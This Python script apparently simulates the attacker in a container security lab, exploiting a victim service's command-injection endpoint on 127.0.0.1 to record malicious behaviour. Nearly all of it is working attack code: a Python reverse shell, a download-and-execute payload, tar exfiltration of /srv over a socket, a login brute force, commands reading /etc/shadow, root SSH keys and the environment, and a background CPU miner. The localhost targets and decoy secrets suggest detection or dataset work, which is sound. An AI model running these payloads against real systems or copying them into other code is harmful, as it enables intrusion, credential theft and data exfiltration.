#!/usr/bin/env python3
"""The attacker of the container scenarios: runs outside the victim's cgroup (in its network namespace, on
127.0.0.1) and makes the victim misbehave, through its diagnostics endpoint's command injection or, for the
brute force, through its login form. Everything stays on 127.0.0.1 and inside the victim's scratch folders; the
secrets read are decoys mounted into the victim.

    attack.py KIND VICTIM_PORT ATTACKER_PORT SECONDS_LEFT
"""
import http.server
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

KIND, PORT, ATTACKER, LEFT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
VICTIM = "http://127.0.0.1:%d" % PORT


def inject(command, wait=True):
    """The victim runs `getent hosts localhost; COMMAND`."""
    url = VICTIM + "/diag?host=" + urllib.parse.quote("localhost; " + command)
    try:
        with urllib.request.urlopen(url, timeout=60 if wait else 5) as response:
            return response.read()
    except (OSError, urllib.error.HTTPError):
        return b""


def listen(handle):
    """An attacker listener on 127.0.0.1:ATTACKER that hands each connection to handle, in the background."""
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", ATTACKER))
    server.listen(4)

    def serve():
        while True:
            connection, _ = server.accept()
            threading.Thread(target=handle, args=(connection,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()


def drain(connection):
    while connection.recv(65536):
        pass
    connection.close()


def reverse_shell():
    def operate(connection):
        # A few looks around, as an intruder's first minute goes; then leave.
        connection.sendall(b"id\nuname -a\nhostname\nls -la /\ncat /etc/passwd\nls /proc\nls -la /srv\nexit\n")
        drain(connection)

    listen(operate)
    inject("python3 -c \"import socket,subprocess;s=socket.create_connection(('127.0.0.1',%d));"
           "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\"" % ATTACKER)


def download_execute():
    payload = b"#!/bin/sh\nid\nuname -a\ncat /proc/cpuinfo > /dev/null\nls -la /srv\nfind /etc -maxdepth 1 -name '*.conf' | head -5\nrm -f /tmp/.update\n"

    class Payload(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", ATTACKER), Payload)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    inject("python3 -c \"import urllib.request as u;open('/tmp/.update','wb').write(u.urlopen('http://127.0.0.1:%d/update.sh').read())\";"
           " chmod +x /tmp/.update; /tmp/.update" % ATTACKER)


def exfiltration():
    listen(drain)
    inject("tar cf - /srv | python3 -c \"import socket,sys;s=socket.create_connection(('127.0.0.1',%d));"
           "s.sendall(sys.stdin.buffer.read())\"" % ATTACKER)


def brute_force():
    # A password list against the login form, as fast as the service answers, for two seconds.
    words = ["123456", "password", "qwerty", "letmein", "admin", "welcome", "monkey", "dragon", "master", "shadow"]
    end = time.time() + min(2.0, max(1.0, LEFT - 1))
    attempt = 0
    while time.time() < end:
        user = ["admin", "alice", "root", "bob"][attempt % 4]
        password = words[attempt % len(words)] + str(attempt // len(words))
        try:
            with urllib.request.urlopen(VICTIM + "/login", ("user=%s&password=%s" % (user, password)).encode(), timeout=5) as r:
                r.read()
        except urllib.error.HTTPError as error:
            error.read()
        except OSError:
            pass
        attempt += 1


def read_secrets():
    inject("cat /etc/shadow; cat /etc/passwd; ls -la /root; cat /root/.ssh/id_rsa 2>/dev/null; env")


def miner():
    # A CPU loop that reports "shares" to a pool on 127.0.0.1 once a second, until the recording ends.
    def pool(connection):
        drain(connection)

    listen(pool)
    seconds = max(1.0, LEFT - 0.5)
    inject("nohup python3 -c \"import hashlib,socket,time\n"
           "s=socket.create_connection(('127.0.0.1',%d)); end=time.time()+%.1f; n=0; last=0\n"
           "while time.time()<end:\n"
           "    hashlib.sha256(str(n).encode()).digest(); n+=1\n"
           "    if time.time()-last>1: s.sendall(b'share %%d' %% n); last=time.time()\n"
           "\" > /dev/null 2>&1 &" % (ATTACKER, seconds), wait=False)


ATTACKS = {f.__name__: f for f in [reverse_shell, download_execute, exfiltration, brute_force, read_secrets, miner]}

if __name__ == "__main__":
    ATTACKS[KIND]()
    time.sleep(1)  # let listeners take what is still coming
